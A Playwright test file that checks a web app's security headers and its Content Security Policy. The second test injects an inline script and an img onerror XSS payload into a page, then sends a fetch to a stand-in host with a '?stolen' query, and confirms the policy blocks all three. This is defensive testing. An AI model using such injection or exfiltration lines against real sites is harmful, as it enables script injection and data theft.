import { expect, test } from './support/test.ts';

/** What a browser is told to keep to: see scripts/security-headers.mjs. That no screen breaks it, each other journey sees. */

const headers = [
  'content-security-policy',
  'x-content-type-options',
  'referrer-policy',
  'permissions-policy',
  'cross-origin-opener-policy',
  'cross-origin-resource-policy',
  'strict-transport-security',
];

test('every answer carries the headers, pages and files alike', async ({ request }) => {
  for (const path of ['/', '/items/new', '/preferences.js']) {
    const answer = await request.get(path);
    expect(answer.ok()).toBe(true);
    for (const name of headers) expect(answer.headers(), `${name} of ${path}`).toHaveProperty(name);
    expect(answer.headers()['content-security-policy']).not.toContain('unsafe');
  }
});

test.describe('what gets into a page', () => {
  // Playwright takes the second part of such a pair for the scope of the option.
  test.use({
    allowedComplaints: [[/Content Security Policy/, /request: \S+ csp$/], { scope: 'test' }],
  });

  test('does not run, is not styled by strangers, and reaches nobody', async ({ page, complaints }) => {
    await page.goto('/items');
    await expect(page.getByRole('table', { name: 'Items' })).toBeVisible();
    const outcome = await page.evaluate(async () => {
      const script = document.createElement('script');
      script.textContent = 'document.title = "taken over"';
      document.body.append(script);
      const box = document.createElement('div');
      box.innerHTML = '<img src="x:" onerror="document.title = \'taken over\'" style="position: fixed">';
      document.body.append(box);
      const sent = await fetch('https://elsewhere.example/?stolen').then(
        () => true,
        () => false,
      );
      return { sent, position: getComputedStyle(box.firstElementChild as Element).position };
    });
    expect(outcome).toEqual({ sent: false, position: 'static' });
    expect(await page.title()).not.toBe('taken over');
    await expect
      .poll(() => complaints.filter((text) => text.includes('Content Security Policy')).length)
      .toBeGreaterThanOrEqual(3);
  });
});
